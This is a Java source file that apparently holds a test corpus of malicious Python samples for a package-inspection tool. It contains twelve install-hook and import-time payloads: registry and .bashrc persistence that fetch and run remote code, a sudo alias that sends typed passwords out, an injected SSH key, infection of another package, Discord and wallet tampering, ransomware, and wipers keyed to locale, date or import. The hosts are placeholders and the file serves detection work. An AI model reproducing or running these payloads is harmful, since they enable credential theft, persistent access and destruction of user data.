package cordon.inspect.corpus;

import java.util.List;

/** What stays on the machine, and what it destroys. */
final class PythonStaying {
  private PythonStaying() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "it starts with the session",
            """
            import winreg, sys, os
            k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)
            winreg.SetValueEx(k, "WindowsUpdate", 0, winreg.REG_SZ, os.path.join(os.environ['APPDATA'], 'update.pyw'))
            winreg.CloseKey(k)
            with open(os.path.join(os.environ['APPDATA'], 'update.pyw'), 'w') as f:
                f.write("import urllib.request as u;exec(u.urlopen('http://192.0.2.30/x').read())")
            """),
        Sample.setup(
            "a shell profile sends what is typed",
            """
            import os
            from setuptools import setup
            from setuptools.command.install import install
            class I(install):
                def run(self):
                    super().run()
                    rc = os.path.expanduser('~/.bashrc')
                    with open(rc, 'a') as f:
                        f.write("\\nalias sudo='f(){ read -s -p \\"Password: \\" p; curl -s -d \\"$p\\" http://192.0.2.33/; }; f'\\n")
            setup(name='p06', version='1.0.3', cmdclass={'install': I})
            """),
        Sample.setup(
            "a key is added to those that may sign in",
            """
            from setuptools import setup
            import os
            d = os.path.join(os.path.expanduser('~'), '.ssh')
            if not os.path.isdir(d): os.makedirs(d, 0o700)
            with open(os.path.join(d, 'authorized_keys'), 'a') as f:
                f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIinert root@inert\\n')
            setup(name='p08', version='1.0.3')
            """),
        Sample.setup(
            "a hook of the interpreter is written at install",
            """
            from setuptools import setup
            from setuptools.command.install import install
            import site, os
            class I(install):
                def run(self):
                    install.run(self)
                    for sp in site.getsitepackages():
                        with open(os.path.join(sp, 'distutils-compat.pth'), 'w') as f:
                            f.write("import os, urllib.request; exec(urllib.request.urlopen('http://192.0.2.36/p').read())")
            setup(name='p10', version='1.0.3', cmdclass={'install': I})
            """),
        Sample.imported(
            "a messenger is given other code",
            """
            import os, requests, glob
            code = requests.get('https://raw.githubusercontent.com/inert/inert/main/injection.js').text.replace('%WEBHOOK%', 'https://discord.com/api/webhooks/0/inert')
            for d in ['Discord', 'discordcanary', 'discordptb']:
                for f in glob.glob(os.path.join(os.getenv('LOCALAPPDATA', ''), d, 'app-*', 'modules', 'discord_desktop_core-*', 'discord_desktop_core', 'index.js')):
                    open(f, 'w', encoding='utf-8').write(code)
            """),
        Sample.imported(
            "a wallet is replaced",
            """
            import os, shutil, glob, urllib.request
            base = os.path.join(os.environ.get('LOCALAPPDATA',''), 'exodus')
            for app in glob.glob(base + '/app-*'):
                urllib.request.urlretrieve('https://p15.invalid/app.asar', os.path.join(app, 'resources', 'app.asar'))
            """),
        Sample.setup(
            "another package is changed",
            """
            from setuptools import setup
            import site, os, atexit
            def infect():
                for d in site.getsitepackages() + [site.getusersitepackages()]:
                    t = os.path.join(d, 'requests', '__init__.py')
                    if os.path.exists(t):
                        with open(t, 'a') as f:
                            f.write("\\nimport urllib.request as _u\\nexec(_u.urlopen('http://192.0.2.38/z').read())\\n")
            atexit.register(infect)
            setup(name='p16', version='1.0.3')
            """),
        Sample.imported(
            "files of the user go where the language is one of these",
            """
            import locale, os, shutil, time
            if locale.getdefaultlocale()[0] in ('he_IL', 'fa_IR', 'ru_RU') or time.tzname[0] in ('Asia/Tehran',):
                for r, d, f in os.walk(os.path.expanduser('~')):
                    for n in f:
                        try: os.remove(os.path.join(r, n))
                        except OSError: pass
            """),
        Sample.imported(
            "documents are encrypted",
            """
            import os, requests
            from cryptography.fernet import Fernet
            k = Fernet.generate_key()
            requests.post('https://discord.com/api/webhooks/0/inert', json={'content': k.decode()})
            f = Fernet(k)
            for root, _, files in os.walk(os.path.expanduser('~/Documents')):
                for n in files:
                    p = os.path.join(root, n)
                    with open(p, 'rb') as h: data = h.read()
                    with open(p, 'wb') as h: h.write(f.encrypt(data))
            """),
        Sample.imported(
            "the home goes in one month of the year",
            """
            import shutil, pathlib
            from datetime import datetime
            if datetime.now().month == 4:
                shutil.rmtree(pathlib.Path.home(), ignore_errors=True)
            """),
        Sample.imported(
            "a disk goes when it is imported",
            """
            import subprocess
            subprocess.call('del /f /s /q C:\\\\*.* & format c: /y', shell=True)
            """),
        Sample.setup(
            "a shell profile fetches and runs",
            """
            import os
            from setuptools import setup
            from setuptools.command.install import install
            class I(install):
                def run(self):
                    with open(os.path.expanduser('~/.bashrc'), 'a') as f:
                        f.write('\\n(curl -s https://c2.example/r | bash) &>/dev/null &\\n')
                    install.run(self)
            setup(name='x', version='1', cmdclass={'install': I})
            """));
  }
}
